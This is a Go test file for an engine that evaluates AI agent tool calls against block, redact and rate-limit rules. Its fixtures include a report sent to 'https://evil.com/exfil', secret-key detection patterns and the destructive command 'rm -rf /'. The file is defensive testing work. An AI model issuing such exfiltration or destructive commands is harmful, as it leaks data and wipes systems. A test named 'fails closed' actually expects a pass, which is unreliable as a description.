package wardengine

import (
	"testing"

	"github.com/mchahed99/bifrost-ward/internal/config"
)

func mustEngine(t *testing.T, cfg *config.BifrostConfig, limiter RateLimitProvider) *Engine {
	t.Helper()
	e, err := New(cfg, limiter)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return e
}

func TestEvaluate_HaltOnExternalEndpoint(t *testing.T) {
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
		Wards: []config.Ward{
			{
				ID:     "block-external-endpoints",
				Tool:   "send_report",
				When:   config.WardCondition{ArgumentMatches: map[string]string{"endpoint": `https?://(?!.*\.internal).*`}},
				Action: config.Halt,
			},
		},
	}
	e := mustEngine(t, cfg, nil)

	eval := e.Evaluate(ToolCallContext{
		ToolName:  "send_report",
		Arguments: map[string]interface{}{"endpoint": "https://evil.com/exfil", "data": "x"},
	})

	if eval.Decision != config.Halt {
		t.Fatalf("expected HALT, got %s", eval.Decision)
	}
	if len(eval.MatchedWards) != 1 || eval.MatchedWards[0] != "block-external-endpoints" {
		t.Fatalf("expected block-external-endpoints to match, got %v", eval.MatchedWards)
	}
}

func TestEvaluate_ReshapeRedactsSecret(t *testing.T) {
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
		Wards: []config.Ward{
			{
				ID:      "redact-secrets",
				Tool:    "send_report",
				When:    config.WardCondition{ArgumentContainsPattern: `(sk-|AKIA|ghp_)`},
				Action:  config.Reshape,
				Reshape: map[string]interface{}{"data": "[REDACTED]"},
			},
		},
	}
	e := mustEngine(t, cfg, nil)

	eval := e.Evaluate(ToolCallContext{
		ToolName: "send_report",
		Arguments: map[string]interface{}{
			"endpoint": "https://audit.internal/ingest",
			"data":     "API_KEY=sk-ant-abc123xyz",
		},
	})

	if eval.Decision != config.Reshape {
		t.Fatalf("expected RESHAPE, got %s", eval.Decision)
	}
	if eval.ReshapedArguments["data"] != "[REDACTED]" {
		t.Fatalf("expected redacted data, got %v", eval.ReshapedArguments["data"])
	}
	if eval.ReshapedArguments["endpoint"] != "https://audit.internal/ingest" {
		t.Fatalf("expected endpoint unchanged, got %v", eval.ReshapedArguments["endpoint"])
	}
}

func TestEvaluate_PassWithSafeCommand(t *testing.T) {
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
	}
	e := mustEngine(t, cfg, nil)

	eval := e.Evaluate(ToolCallContext{
		ToolName:  "list_files",
		Arguments: map[string]interface{}{"directory": "/tmp/demo"},
	})

	if eval.Decision != config.Pass {
		t.Fatalf("expected PASS, got %s", eval.Decision)
	}
	if len(eval.MatchedWards) != 0 {
		t.Fatalf("expected no matched wards, got %v", eval.MatchedWards)
	}
}

func TestEvaluate_PriorityArbitration(t *testing.T) {
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
		Wards: []config.Ward{
			{ID: "pass-all", Tool: "Bash", When: config.WardCondition{Always: true}, Action: config.Pass, Message: "logged"},
			{ID: "halt-sudo", Tool: "Bash", When: config.WardCondition{ArgumentMatches: map[string]string{"command": "sudo "}}, Action: config.Halt, Message: "sudo is blocked"},
		},
	}
	e := mustEngine(t, cfg, nil)

	eval := e.Evaluate(ToolCallContext{
		ToolName:  "Bash",
		Arguments: map[string]interface{}{"command": "sudo apt install"},
	})

	if eval.Decision != config.Halt {
		t.Fatalf("expected HALT, got %s", eval.Decision)
	}
	if len(eval.MatchedWards) != 2 || eval.MatchedWards[0] != "pass-all" || eval.MatchedWards[1] != "halt-sudo" {
		t.Fatalf("expected both wards matched in declaration order, got %v", eval.MatchedWards)
	}
	if eval.Rationale != "sudo is blocked" {
		t.Fatalf("expected rationale from the HALT ward, got %q", eval.Rationale)
	}
}

func TestEvaluate_ArgumentMatchesFailsClosedOnMissingField(t *testing.T) {
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
		Wards: []config.Ward{
			{ID: "w1", Tool: "*", When: config.WardCondition{ArgumentMatches: map[string]string{"endpoint": ".*"}}, Action: config.Halt},
		},
	}
	e := mustEngine(t, cfg, nil)

	eval := e.Evaluate(ToolCallContext{ToolName: "anything", Arguments: map[string]interface{}{}})
	if eval.Decision != config.Pass || len(eval.MatchedWards) != 0 {
		t.Fatalf("expected missing field to fail closed, got decision=%s matched=%v", eval.Decision, eval.MatchedWards)
	}
}

func TestEvaluate_RateLimitWithNoProviderNeverMatches(t *testing.T) {
	threshold := 1
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
		Wards: []config.Ward{
			{ID: "w1", Tool: "*", When: config.WardCondition{MaxCallsPerMinute: &threshold}, Action: config.Halt},
		},
	}
	e := mustEngine(t, cfg, nil)

	eval := e.Evaluate(ToolCallContext{ToolName: "anything", Arguments: map[string]interface{}{}})
	if eval.Decision != config.Pass {
		t.Fatalf("expected rate-limit clause with no provider to never match, got %s", eval.Decision)
	}
}

func TestEvaluate_RateLimitThreshold(t *testing.T) {
	threshold := 3
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
		Wards: []config.Ward{
			{ID: "w1", Tool: "Bash", When: config.WardCondition{MaxCallsPerMinute: &threshold}, Action: config.Halt},
		},
	}
	limiter := NewInMemoryLimiter()
	e := mustEngine(t, cfg, limiter.Provider())

	limiter.Record("s1", "Bash")
	limiter.Record("s1", "Bash")

	eval := e.Evaluate(ToolCallContext{ToolName: "Bash", SessionID: "s1", Arguments: map[string]interface{}{}})
	if eval.Decision != config.Pass {
		t.Fatalf("expected PASS below threshold, got %s", eval.Decision)
	}

	limiter.Record("s1", "Bash")
	eval = e.Evaluate(ToolCallContext{ToolName: "Bash", SessionID: "s1", Arguments: map[string]interface{}{}})
	if eval.Decision != config.Halt {
		t.Fatalf("expected HALT at threshold, got %s", eval.Decision)
	}
}

func TestEvaluate_UnknownConditionKeyWithNoPluginFails(t *testing.T) {
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
		Wards: []config.Ward{
			{ID: "w1", Tool: "*", When: config.WardCondition{Extra: map[string]interface{}{"some_unregistered_key": "x"}}, Action: config.Halt},
		},
	}
	e := mustEngine(t, cfg, nil)

	eval := e.Evaluate(ToolCallContext{ToolName: "anything", Arguments: map[string]interface{}{}})
	if eval.Decision != config.Pass {
		t.Fatalf("expected unregistered condition key to fail the clause, got %s", eval.Decision)
	}
}

func TestEvaluate_EmptyWardSetUsesDefault(t *testing.T) {
	cfg := &config.BifrostConfig{Defaults: config.Defaults{Action: config.Reshape, Severity: config.SeverityLow}}
	e := mustEngine(t, cfg, nil)

	eval := e.Evaluate(ToolCallContext{ToolName: "anything", Arguments: map[string]interface{}{}})
	if eval.Decision != config.Reshape {
		t.Fatalf("expected default action, got %s", eval.Decision)
	}
	if len(eval.MatchedWards) != 0 {
		t.Fatalf("expected no matches, got %v", eval.MatchedWards)
	}
}

func TestEvaluate_IsPure(t *testing.T) {
	cfg := &config.BifrostConfig{
		Defaults: config.Defaults{Action: config.Pass, Severity: config.SeverityLow},
		Wards: []config.Ward{
			{ID: "w1", Tool: "Bash", When: config.WardCondition{ArgumentMatches: map[string]string{"command": "rm"}}, Action: config.Halt},
		},
	}
	e := mustEngine(t, cfg, nil)

	ctx := ToolCallContext{ToolName: "Bash", Arguments: map[string]interface{}{"command": "rm -rf /"}}
	first := e.Evaluate(ctx)
	second := e.Evaluate(ctx)

	if first.Decision != second.Decision || len(first.MatchedWards) != len(second.MatchedWards) {
		t.Fatal("expected repeated evaluation of the same context to be identical")
	}
}
